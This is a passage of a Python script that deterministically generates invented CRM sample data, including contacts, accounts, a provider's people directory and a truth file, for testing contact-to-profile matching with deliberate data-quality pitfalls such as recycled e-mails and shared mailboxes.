        TALLY["people: row", "… of these changed their job"] += changed
    for person in recycled:
        add_successor(directory, person)
    add_strangers(directory, people, crm)
    records = directory.records
    give_away(rng, [r for r in records if not r["known_emails"]], "known_emails", crm.mailboxes)
    give_away(rng, [r for r in records if not r["work_phone"]], "work_phone", crm.switchboards[:4])
    rng.shuffle(records)
    return directory


def add_successor(directory: Directory, person: Person) -> None:
    """The person left, and the address was given to somebody with quite another name."""
    parts = {person.name.latin_first, person.name.latin_last}
    names = iter(lambda: directory.world.name(person.company.country), None)
    name = next(n for n in names if not parts & {n.latin_first, n.latin_last})
    successor = directory.world.person(person.company, name)
    record = directory.add(successor, successor.name.full, coverage="verified_work")
    record["work_email"] = person.work_email
    TALLY["people: row", "e-mail recycled: now somebody else's"] += 1


def add_strangers(directory: Directory, people: list[Person], crm: Crm) -> None:
    world, rng = directory.world, directory.rng
    for kind, count in STRANGERS.items():
        for n in range(count):
            company = rng.choice(directory.companies)
            name = None
            if kind != "unknown names":
                # half of them are namesakes of contacts known by name and company only
                original = rng.choice(crm.name_only if n % 2 else people)
                name = original.name
                company = original.company if kind.endswith("company") else company
            stranger = world.person(company, name)
            directory.add(stranger, stranger.name.full)
            TALLY["people: row", f"nobody asked for: {kind}"] += 1


def give_away(
    rng: Random, records: list[dict[str, str]], column: str, values: Sequence[str]
) -> None:
    """Traps: a shared mailbox or switchboard that finds one (arbitrary) person."""
    for record, value in zip(rng.sample(records, len(values)), values, strict=True):
        record[column] = value
        if column == "work_phone":
            record["work_phone_rating"] = "100"
        TALLY["people: row", "found by a shared mailbox or switchboard (a trap)"] += 1


# 4. What is known elsewhere ----------------------------------------------------------------------


class Elsewhere(Directory):
    """Builds people_elsewhere.csv: what the directory lacks of the people behind contacts."""

    file = "people_elsewhere"

    def __init__(self, directory: Directory) -> None:
        # randomness of its own, so that the other files stay as they are
        directory.world.rng = Random(f"{SEED}:elsewhere")
        super().__init__(directory.world, directory.companies)
        self.uids = directory.uids


def make_elsewhere(directory: Directory, people: list[Person]) -> list[dict[str, str]]:
    """People that the directory does not list, and work e-mails that it lacks."""
    elsewhere = Elsewhere(directory)
    world, rng = elsewhere.world, elsewhere.rng
    recycled = {record["work_email"] for record in directory.records}
    for person in people:
        if person.uid:
            continue
        # a person whose address is another's by now has left
        changed = person.work_email in recycled or rng.random() < JOB_CHANGED
        name = provider_spelling(world, person, elsewhere.file)
        elsewhere.add(person, name, changed=changed, coverage="verified_work")
        TALLY["people_elsewhere: row", "not in people.csv"] += 1
        TALLY["people_elsewhere: row", "… of these changed their job"] += changed
    for person, employer, record in directory.listed:
        email = person.work_email
        if employer is not person.company:
            email = record["work_email"] or world.work_email(person.name, employer)
        if person.contact_ids and record["work_email"] != email:
            more = {"uid": record["uid"], "full_name": record["full_name"], "work_email": email}
            elsewhere.records.append(dict.fromkeys(PEOPLE_COLUMNS, "") | more)
            what = "another" if record["work_email"] else "the first"
            TALLY["people_elsewhere: row", f"in people.csv, with {what} work e-mail"] += 1
    rng.shuffle(elsewhere.records)
    return elsewhere.records


# Writing -----------------------------------------------------------------------------------------

README = """\
# Sample data

A CRM as it is met in the wild, and what a data provider knows of the same people. **Every person,
company, address and number is invented**; only the hosts of free and disposable mail are real.
Phone numbers come from the ranges reserved for fiction where such numbers pass as valid.

| file | rows | what |
| --- | --- | --- |
| `contacts.csv` | {contacts} | the CRM's contacts, on {accounts} accounts |
| `accounts.csv` | {accounts} | the accounts; {blank} have no tier, only figures |
| `people.csv` | {people} | the directory of the sandbox provider |
| `people_elsewhere.csv` | {elsewhere} | further people and e-mails, for other stand-ins |
| `truth.csv` | {truth} | which profile of the two is each contact's own; read by tests only |

Made by `python data/sample/make_sample.py` (seed {seed}, reference date {reference}, Faker {faker},
phonenumbers {phonenumbers}): the same bytes on every run. It writes this file, too. `people.csv`
is a step of its own, made from the same invented people and never from the warehouse: what the
provider knows is less than the CRM, newer, and at times something else. `people_elsewhere.csv`
has the columns of `people.csv`; where a `uid` is in both, what it fills counts.

Text is UTF-8, lines end in LF, quotes as in RFC 4180; fields hold line breaks, quotes and commas.
Where a `contact_id` repeats, the row with the later `updated_at` wins.

## What is in it

Rows by kind. Each value was spoiled once at most, so the kinds of one column do not overlap
(those under *names* and *row* do).

{table}
"""


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def truth_of(people: Iterable[Person]) -> list[dict[str, str]]:
    """Every contact that is a person, and the uid of their own profile, if there is one."""
    pairs = [(contact_id, p.uid) for p in people for contact_id in p.contact_ids]
    return [dict(zip(TRUTH_COLUMNS, pair, strict=True)) for pair in sorted(pairs)]


def counts() -> str:
    """The tally as a Markdown table, file by file and column by column."""
    files = ("accounts", "contacts", "people", "people_elsewhere")
    groups = sorted({group for group, _ in TALLY}, key=lambda g: (files.index(g.split(":")[0]), g))
    lines = [
        f"| {group} | {label} | {count:,} |"
        for group in groups
        for (its_group, label), count in TALLY.items()
        if its_group == group
    ]
    return "\n".join(["| where | what | rows |", "| --- | --- | ---: |", *lines])


def make_sample(out: Path) -> str:
    """Write the six files into a folder and return the table of counts."""
    TALLY.clear()
    world = World(Random(f"{SEED}:world"))
    accounts, account_rows = make_accounts(world)
    others = [world.company(log_uniform(world.rng, 5, 20000)) for _ in range(OTHER_COMPANIES)]
    people = make_people(world, accounts, others)
    crm = make_crm(world, people, accounts)
    directory = make_directory(world, people, crm, accounts + others)
    elsewhere = make_elsewhere(directory, people)

    out.mkdir(parents=True, exist_ok=True)
    write_csv(out / "contacts.csv", CONTACT_COLUMNS, crm.rows)
    write_csv(out / "accounts.csv", ACCOUNT_COLUMNS, account_rows)
    write_csv(out / "people.csv", PEOPLE_COLUMNS, directory.records)
    write_csv(out / "people_elsewhere.csv", PEOPLE_COLUMNS, elsewhere)
    truth = truth_of(people)
    write_csv(out / "truth.csv", TRUTH_COLUMNS, truth)
    readme = README.format(
        contacts=len(crm.rows), accounts=len(account_rows), people=len(directory.records),
        elsewhere=len(elsewhere), truth=len(truth), blank=ACCOUNTS_PER_TIER[""],
        seed=SEED, reference=f"{REFERENCE:%Y-%m-%d}",
        table=counts(), **MADE_WITH,
    )  # fmt: skip
    (out / "README.md").write_text(readme, encoding="utf-8")
    return counts()


def main() -> None:
    parser = argparse.ArgumentParser(
        description="Make the sample data (see the module's docstring)."
    )
    parser.add_argument(
        "--out", type=Path, default=Path(__file__).parent, help="default: beside this file"
    )
    print(make_sample(parser.parse_args().out))


if __name__ == "__main__":
    main()
